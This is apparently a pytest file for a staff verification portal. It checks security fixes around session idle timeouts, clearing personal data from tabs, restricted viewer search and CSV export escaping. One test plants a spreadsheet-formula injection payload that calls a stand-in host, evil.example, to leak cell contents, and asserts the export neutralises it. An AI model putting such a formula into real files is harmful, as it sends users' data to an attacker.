"""Security findings fixed in the staff states (issue 10), tried as the states run them, on SQLite and PostgreSQL.

Each test builds a real state with a real session cookie (as ``test_access_walk`` does) and calls the handler or
the push path a running app would call.
"""

from __future__ import annotations

import base64
import re
from datetime import timedelta
from typing import Any

import pytest
from sqlmodel import select

from didit_portal.db import get_engine, session_scope
from didit_portal.models import AuditLog, StaffSession, VerificationSession, utcnow
from didit_portal.security import lookup_hash
from didit_portal.services import audit
from didit_portal.services.notify import SessionChanged
from didit_portal.states.audit import AuditState
from didit_portal.states.queue import QueueState
from didit_portal.states.session_detail import SessionDetailState
from tests.api.test_access_walk import _state_for, cookies  # noqa: F401 -- the fixture is used by name
from tests.auth_helpers import fast_hashing

EMAIL = "zoe.nunez@example.com"


def _token(cookie: str) -> str:
    return cookie.rsplit("=", 1)[1]


def _last_seen(db_url: str, cookie: str) -> Any:
    with session_scope(get_engine(db_url)) as db:
        row = db.get(StaffSession, lookup_hash(_token(cookie)))
        assert row is not None
        return row.last_seen_at


def _age_session(db_url: str, cookie: str, minutes: int) -> None:
    with session_scope(get_engine(db_url)) as db:
        row = db.get(StaffSession, lookup_hash(_token(cookie)))
        assert row is not None
        row.last_seen_at = utcnow() - timedelta(minutes=minutes)
        db.add(row)


def _seed_sessions(db_url: str) -> None:
    with session_scope(get_engine(db_url)) as db:
        db.add(
            VerificationSession(
                session_id="11111111-1111-4111-8111-111111111111",
                session_number=4711,
                vendor_data=EMAIL,
                status="In Review",
                email_hash=lookup_hash(EMAIL),
            )
        )
        db.add(
            VerificationSession(
                session_id="22222222-2222-4222-8222-222222222222",
                session_number=4712,
                vendor_data="zeta-customer-9",
                status="Approved",
            )
        )


def test_a_webhook_push_does_not_keep_a_staff_session_alive(db_url: str, cookies: dict[str, str]) -> None:  # noqa: F811
    """Item 5: an open queue tab receives a push for every webhook; the push re-checks the cookie but must not
    refresh ``last_seen_at`` (else the 30-minute idle timeout never fires while /admin is open)."""
    _age_session(db_url, cookies["reviewer"], minutes=20)
    before = _last_seen(db_url, cookies["reviewer"])
    queue_tab = _state_for(QueueState, cookies["reviewer"], "/admin")
    queue_tab._apply_change(SessionChanged("11111111-1111-4111-8111-111111111111", "Approved"))
    session_tab = _state_for(SessionDetailState, cookies["reviewer"], "/admin/sessions/x")
    session_tab.sid = "x"
    session_tab._reload(user_action=False)
    assert _last_seen(db_url, cookies["reviewer"]) == before
    # The person's own action still keeps the session alive.
    queue_tab._principal()
    assert _last_seen(db_url, cookies["reviewer"]) > before


def test_an_expired_session_tab_forgets_the_personal_data_it_showed(db_url: str, cookies: dict[str, str]) -> None:  # noqa: F811
    """Item 6: when the next push finds the sign-in over, the tab's state is emptied (and so what Reflex stores)."""
    tab = _state_for(SessionDetailState, cookies["reviewer"], "/admin/sessions/x")
    tab.sid = "11111111-1111-4111-8111-111111111111"
    tab.person = [{"label": "Name", "value": "Zoe Nunez"}]
    tab.summary = [{"label": "Vendor data", "value": EMAIL}]
    _age_session(db_url, cookies["reviewer"], minutes=31)  # past the idle limit
    tab._reload(user_action=False)
    assert tab.person == [] and tab.summary == [] and tab.sid == ""


@pytest.mark.parametrize(
    ("typed", "reviewer_sees", "viewer_sees"),
    [
        ("zo", 1, 0),  # a vendor_data prefix: one character at a time would unmask a masked email
        (EMAIL, 1, 0),  # an exact email: would confirm the person is in the queue
        ("zeta-customer-9", 1, 0),  # an exact vendor_data
        ("4711", 1, 1),  # a session number
        ("22222222-2222-4222-8222-222222222222", 1, 1),  # a session id
    ],
)
def test_viewers_search_session_ids_and_numbers_only(
    db_url: str,
    cookies: dict[str, str],  # noqa: F811
    typed: str,
    reviewer_sees: int,
    viewer_sees: int,
) -> None:
    """Item 10: the queue search of a viewer matches session ids and numbers exactly, nothing else."""
    _seed_sessions(db_url)
    for role, expected in (("reviewer", reviewer_sees), ("viewer", viewer_sees)):
        tab = _state_for(QueueState, cookies[role], "/admin")
        tab.submit_search({"q": typed})
        assert len(tab.rows) == expected, (role, typed, tab.rows)


def test_the_audit_export_neutralises_spreadsheet_formulas(db_url: str, cookies: dict[str, str]) -> None:  # noqa: F811
    """Item 18: audit cells come from outside (a target id, a typed email); a formula must reach a spreadsheet as
    text, as the queue export already did."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    with session_scope(get_engine(db_url)) as db, fast_hashing():
        audit.record(db, actor=None, action="auth.login_failed", target_type="staff_user", target_id=formula)
    admin = _state_for(AuditState, cookies["admin"], "/admin/audit")
    spec = admin.export_csv()
    encoded = re.search(r"base64,([A-Za-z0-9+/=]+)", str(spec))
    assert encoded is not None
    text = base64.b64decode(encoded.group(1)).decode()
    assert "'" + formula.replace('"', '""') in text  # quoted as text (and CSV-escaped)
    assert not re.search(r'(^|,)"?=HYPERLINK', text, re.M)  # never a cell that starts a formula
    with session_scope(get_engine(db_url)) as db:
        assert db.exec(select(AuditLog).where(AuditLog.action == "audit.export")).first() is not None


async def test_signing_out_empties_the_tabs_staff_pages(db_url: str, cookies: dict[str, str]) -> None:  # noqa: F811
    """Item 6: after sign-out the tab lands on /login; the pages it showed (a person's name, document number,
    vendor_data) are emptied there, so the tab's stored state keeps nothing of the person."""
    from didit_portal.states.login import LoginState

    login = _state_for(LoginState, cookies["anonymous"], "/login")
    detail = await login.get_state(SessionDetailState)
    detail.sid = "11111111-1111-4111-8111-111111111111"
    detail.person = [{"label": "Document number", "value": "X1234567"}]
    queue_tab = await login.get_state(QueueState)
    queue_tab.rows = [{"session_id": "s", "vendor_data": EMAIL}]
    await login.load()
    assert detail.person == [] and detail.sid == "" and queue_tab.rows == []
